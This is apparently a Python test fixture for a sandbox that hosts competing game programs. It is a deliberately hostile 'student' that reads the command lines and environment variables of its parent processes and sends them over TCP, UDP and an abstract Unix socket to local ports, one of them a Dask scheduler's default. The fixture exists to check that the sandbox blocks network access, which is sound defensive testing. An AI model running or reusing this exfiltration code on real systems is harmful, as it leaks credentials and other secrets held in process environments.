# h06-network-py -- hostile561 fixture: a student who talks to the network.
#
# On every move: sends what its parents give away (command lines,
# environment) over TCP to 127.0.0.1 and ::1 on port 45617 (where a test
# listens) and 8786 (a Dask scheduler's default port: where the teacher's
# cluster listens, it would join), by UDP to 127.0.0.1:45617, and to the
# abstract Unix socket "@h561-listener" (abstract sockets belong to a
# network namespace, not to the file system).
# Expected in a box: its network namespace has only its own loopback with
# nothing listening, so every connection is refused; it plays exactly as
# s01-first-py, and the listeners accept nothing.
#
# Run it only through `duel referee` / `duel tournament`, in a box.
import json
import os
import socket
import sys

sys.dont_write_bytecode = True  # leave no __pycache__ in the folder
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
# s01-first-py's move generator and this class's kit, copied beside this
# file when the test builds the class (tests/python/test_hostile_class.py).
from first_move import *  # noqa: E402,F401,F403
from hostile_kit import *  # noqa: E402,F401,F403

PORTS = (45617, 8786)


def attack():
    mark("network")
    secret = json.dumps({"cmdlines": {p: cmdline(p) for p in ancestors()},
                         "environ": {p: (read("/proc/%d/environ" % p) or b"").decode("latin-1")
                                     for p in ancestors()},
                         "own": dict(os.environ)}).encode()
    data = b"h561 " + secret[:60000] + b"\n"
    for host, family in (("127.0.0.1", socket.AF_INET), ("::1", socket.AF_INET6)):
        for port in PORTS:
            try:
                with socket.socket(family, socket.SOCK_STREAM) as s:
                    s.settimeout(0.5)
                    s.connect((host, port))
                    s.sendall(data)
                say("tcp", host, port, "connected and sent", len(data))
            except OSError as e:
                say("tcp", host, port, "refused", e.errno)
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(data[:1400], ("127.0.0.1", PORTS[0]))
        say("udp sent")
    except OSError as e:
        say("udp refused", e.errno)
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.settimeout(0.5)
            s.connect("\0h561-listener")
            s.sendall(data)
        say("abstract unix connected and sent")
    except OSError as e:
        say("abstract unix refused", e.errno)


if __name__ == "__main__":
    run(attack)
